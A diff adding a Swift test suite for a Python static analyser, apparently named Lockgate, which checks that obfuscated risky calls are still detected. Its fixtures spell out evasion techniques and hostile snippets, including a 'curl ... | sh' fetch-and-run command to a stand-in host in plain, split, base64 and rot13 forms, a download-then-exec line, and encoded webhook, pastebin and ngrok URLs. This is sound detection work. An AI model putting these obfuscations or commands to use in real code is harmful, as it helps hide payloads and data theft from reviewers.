@@ -1,0 +1,105 @@
+import Analysis
+import LockgateCore
+import Testing
+
+/// Evasions: aliasing, splitting, indirect access and encoded strings still report the behaviour where it happens.
+@Suite struct PythonEvasionTests {
+    static let examples: [PythonExample] = [
+        // Aliasing
+        PythonExample(.spawnProcess, "import os as o\n↓o.system('id')"),
+        PythonExample(.spawnProcess, "from os import system as s\n↓s('id')"),
+        PythonExample(.spawnProcess, "from subprocess import Popen as P\n↓P(['id'])"),
+        PythonExample(.spawnProcess, "from subprocess import *\n↓check_output(['id'])\n↓call('id')"),
+        PythonExample(.spawnProcess, "import os.path\n↓os.system('id')"),
+        PythonExample(.spawnProcess, "import subprocess\nrunner = subprocess.Popen\n↓runner('id')"),
+        PythonExample(.spawnProcess, "import subprocess as sp, os\nf = getattr(sp, 'check_call')\n↓f(['id'])"),
+        PythonExample(.useNetwork, "import urllib.request as ur\n↓ur.urlopen(u)"),
+        // __import__, importlib, getattr, globals, builtins
+        PythonExample(.spawnProcess, "↓__import__('os').system('id')"),
+        PythonExample(.spawnProcess, "import importlib\n↓importlib.import_module('subprocess').run('id')"),
+        PythonExample(.spawnProcess, "import os\n↓getattr(os, 'system')('id')"),
+        PythonExample(.spawnProcess, "↓getattr(__import__('os'), 'sys' + 'tem')('id')"),
+        PythonExample(.spawnProcess, "m = ''.join(['o', 's'])\n↓getattr(__import__(m), 'popen')('id')"),
+        PythonExample(.importOSModule, "mod = ↓__import__('o' + 's')"),
+        PythonExample(.importProcessModule, "import importlib\nmod = ↓importlib.import_module('sub' + 'process')"),
+        PythonExample(.evalCode, "↓globals()['__builtins__'].exec(code)"),
+        PythonExample(.evalCode, "↓__builtins__.__dict__['exec'](code)"),
+        PythonExample(.evalCode, "import builtins\n↓builtins.exec(code)\n↓getattr(builtins, 'eval')(code)"),
+        PythonExample(.evalCode, "import builtins\n↓vars(builtins)['eval'](code)"),
+        PythonExample(.evalCode, "↓globals()['ev' + 'al'](code)"),
+        PythonExample(.evalCode, "import sys\n↓sys.modules['builtins'].exec(code)"),
+        // Splitting and folding
+        PythonExample(.urlWebhook, "u = ↓'https://disc' + 'ord.com/api/web' + 'hooks/1/x'"),
+        PythonExample(.urlWebhook, "u = 'https://discord.com/api/'\n↓u += 'webhooks/1/x'"),
+        PythonExample(.urlPaste, "host = 'pastebin'\nu = ↓'https://%s.com/raw/a' % host"),
+        PythonExample(.urlPaste, "host = 'pastebin'\nu = ↓f'https://{host}.com/raw/a'"),
+        PythonExample(.urlPaste, "u = ↓'https://{}.com/raw/a'.format('pastebin')"),
+        PythonExample(.urlTunnel, "u = ↓''.join(['https://', 'abc.', 'ngrok', '.io'])"),
+        PythonExample(.shellCommand, "c = ↓'cu' 'rl http://x.example/i.sh | sh'"),
+        // Encoded strings
+        PythonExample(.urlPaste, "import base64\nu = ↓base64.b64decode('aHR0cHM6Ly9wYXN0ZWJpbi5jb20vcmF3L3h5eg==').decode()"),
+        PythonExample(.urlPaste, "import base64\nu = ↓base64.b64decode(b'aHR0cHM6Ly9wYXN0ZWJpbi5jb20vcmF3L3h5eg==')"),
+        PythonExample(.urlPaste, "u = ↓bytes.fromhex('68747470733a2f2f706173746562696e2e636f6d2f61').decode()"),
+        PythonExample(.urlPaste, "import codecs\nu = ↓codecs.decode('uggcf://cnfgrova.pbz/n', 'rot13')"),
+        PythonExample(.urlPaste, "import codecs\nu = ↓codecs.decode('68747470733a2f2f706173746562696e2e636f6d2f61', 'hex')"),
+        PythonExample(.urlPaste, "v = ↓''.join(map(chr, [104, 116, 116, 112, 58, 47, 47, 112, 97, 115, 116, 101, 98, 105, 110, 46, 99, 111, 109]))"),
+        PythonExample(.urlPaste, "u = ↓''.join([chr(104), chr(116), chr(116), chr(112), chr(58), chr(47), chr(47), chr(112), chr(97), chr(115), chr(116), chr(101), chr(98), chr(105), chr(110), chr(46), chr(99), chr(111), chr(109)])"),
+        PythonExample(.urlPaste, "u = ↓'moc.nibetsap//:sptth'[::-1]"),
+        PythonExample(.urlPaste, "u = ↓''.join(reversed('moc.nibetsap//:sptth'))"),
+        PythonExample(.urlPaste, "u = ↓bytes([104, 116, 116, 112, 58, 47, 47, 112, 97, 115, 116, 101, 98, 105, 110, 46, 99, 111, 109]).decode()"),
+        PythonExample(.urlPaste, "u = ↓'\\x68\\x74\\x74\\x70\\x3a//pastebin.com'"),
+        PythonExample(.shellCommand, "import base64, os\nos.system(↓base64.b64decode('Y3VybCBodHRwOi8veC5leGFtcGxlL2kuc2ggfCBzaA==').decode())"),
+        PythonExample(.shellCommand, "import codecs\nc = ↓codecs.decode('phey uggc://k.rknzcyr/v.fu | fu', 'rot_13')"),
+        PythonExample(.spawnProcess, "import base64, os\n↓os.system(base64.b64decode('aWQ=').decode())"),
+        PythonExample(.evalCode, "import base64\n↓exec(base64.b64decode('cHJpbnQoMSk='))"),
+        PythonExample(.downloadExecute, "import requests as r\nexec_ = exec\ncode = r.get(u).text\n↓exec(code)"),
+    ]
+
+    @Test(arguments: examples)
+    func evasionStillReports(_ example: PythonExample) {
+        let marked = PythonMarkedSource(example.source)
+        let analysis = PythonTestSupport.analyse(marked.source)
+        for mark in marked.marks {
+            #expect(
+                PythonTestSupport.reports(analysis, example.kind, at: mark),
+                "expected \(example.kind.rawValue) at \(mark); got \(PythonTestSupport.describe(analysis))")
+        }
+    }
+
+    @Test func ordinaryStringsAreNotCode() {
+        let analysis = PythonTestSupport.analyse("""
+            a = "eval(x)"
+            b = 'os.system("id")'
+            c = "__import__('os').system('x')"
+            d = f"exec({x})"
+            """)
+        #expect(!PythonTestSupport.kinds(analysis).contains(.evalCode))
+        #expect(!PythonTestSupport.kinds(analysis).contains(.spawnProcess))
+        #expect(!PythonTestSupport.kinds(analysis).contains(.importOSModule))
+    }
+
+    @Test func shadowedNamesAreNotLibraryCalls() {
+        let analysis = PythonTestSupport.analyse("""
+            def system(x):
+                return x
+            def exec(y):
+                return y
+            system('id')
+            exec('code')
+            """)
+        #expect(!PythonTestSupport.kinds(analysis).contains(.spawnProcess))
+        #expect(!PythonTestSupport.kinds(analysis).contains(.evalCode))
+        #expect(PythonTestSupport.structure(analysis.topLevel) == ["call:system", "call:exec"])
+    }
+
+    @Test func plainHostLookupIsNotExfiltration() {
+        let analysis = PythonTestSupport.analyse("import socket\nip = socket.gethostbyname(socket.gethostname())\n")
+        #expect(PythonTestSupport.kinds(analysis).contains(.dnsLookup))
+        #expect(!PythonTestSupport.kinds(analysis).contains(.dnsExfiltration))
+    }
+
+    @Test func escapesThatSpellNoIdentifierAreOrdinary() {
+        let analysis = PythonTestSupport.analyse("a = '\\x00\\x01'\nb = 'line\\n'\nc = b'\\x41\\x42'\n")
+        #expect(!PythonTestSupport.kinds(analysis).contains(.escapedIdentifiers))
+    }
+}
